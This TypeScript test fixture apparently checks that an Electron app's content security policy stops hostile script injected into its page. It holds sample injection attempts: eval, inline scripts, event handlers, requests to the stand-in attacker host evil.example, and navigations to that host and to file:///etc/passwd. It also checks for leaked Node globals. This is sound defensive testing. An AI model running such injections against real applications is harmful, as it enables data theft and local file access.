/** What a page would try that some script of a stranger has got into. Text, because it runs in the page. */

/** Everything the policy must stop; resolves to what each try came to. */
export const injections = `(async () => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
  // From a timer, out of the reach of the debugger, whose own evaluations the policy lets through.
  const later = (run) => new Promise((resolve) => {
    setTimeout(() => {
      try { resolve(run()); } catch (error) { resolve(error.name); }
    });
  });
  const element = (name, attributes) => () => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return 'added';
  };
  const results = {
    eval: await later(() => eval('1')),
    newFunction: await later(() => new Function('return 1')()),
    timer: await later(() => setTimeout('window.timerRan = true')),
    innerHtml: await later(() => { document.body.innerHTML = '<b>x</b>'; return 'set'; }),
    emptied: await later(() => { document.createElement('div').innerHTML = ''; return 'emptied'; }),
    policy: await later(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text }) && 'created'),
    inline: await later(() => {
      const script = document.createElement('script');
      script.append('window.inlineRan = true');
      document.body.append(script);
      return 'added';
    }),
    handler: await later(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.handlerRan = true');
      button.click();
      return 'clicked';
    }),
    fetch: await fetch('https://evil.example/').then(() => 'fetched', (error) => error.name),
  };
  await later(element('img', { src: 'https://evil.example/a.png' }));
  await later(element('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }));
  await later(element('iframe', { src: 'https://evil.example/' }));
  await later(element('object', { data: 'https://evil.example/' }));
  await later(element('base', { href: 'https://evil.example/' }));
  await later(() => { new WebSocket('wss://evil.example/'); });
  await later(() => { import('https://evil.example/a.js').catch(() => {}); });
  // Time for what must not run; and what is refused is told by and by.
  const wanted = ['require-trusted-types-for', 'trusted-types', 'script-src-elem', 'style-src-elem', 'img-src', 'frame-src', 'connect-src', 'base-uri'];
  for (let waited = 0; waited < 10_000 && (waited < 300 || wanted.some((one) => !violations.includes(one))); waited += 50) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return { results, violations, ran: ['inlineRan', 'handlerRan', 'timerRan'].filter((name) => name in window) };
})()`;

export interface InjectionOutcome {
  readonly results: Readonly<Record<string, unknown>>;
  readonly violations: readonly string[];
  readonly ran: readonly string[];
}

const append = (name: string, attributes: Readonly<Record<string, string>>, then: string): string => `(() => {
  const made = document.createElement('${name}');
  for (const [key, value] of Object.entries(${JSON.stringify(attributes)})) made.setAttribute(key, value);
  document.body.append(made);
  ${then}
})()`;

/** Ways to leave the page. */
export const departures: readonly string[] = [
  "location.assign('https://evil.example/')",
  "location.replace('https://evil.example/')",
  "location.assign('/probe.js')",
  append('a', { href: 'https://evil.example/' }, 'made.click();'),
  append('a', { href: 'file:///etc/passwd' }, 'made.click();'),
  append('form', { action: 'https://evil.example/' }, 'made.submit();'),
  append('meta', { 'http-equiv': 'refresh', content: '0;url=https://evil.example/' }, ''),
];

/** What the app exposes to its page, and what it must not. */
export const exposure = `({
  names: Object.keys(sallyport).sort(),
  kinds: [...new Set(Object.values(sallyport).map((value) => typeof value))],
  leaks: ['require', 'process', 'module', 'exports', 'electron', 'ipcRenderer', 'Buffer'].filter((name) => name in window),
  replaceable: Reflect.set(window, 'sallyport', 'mine') && window.sallyport === 'mine',
  extensible: Reflect.set(sallyport, 'more', 1),
})`;

export interface Exposure {
  readonly names: readonly string[];
  readonly kinds: readonly string[];
  readonly leaks: readonly string[];
  readonly replaceable: boolean;
  readonly extensible: boolean;
}
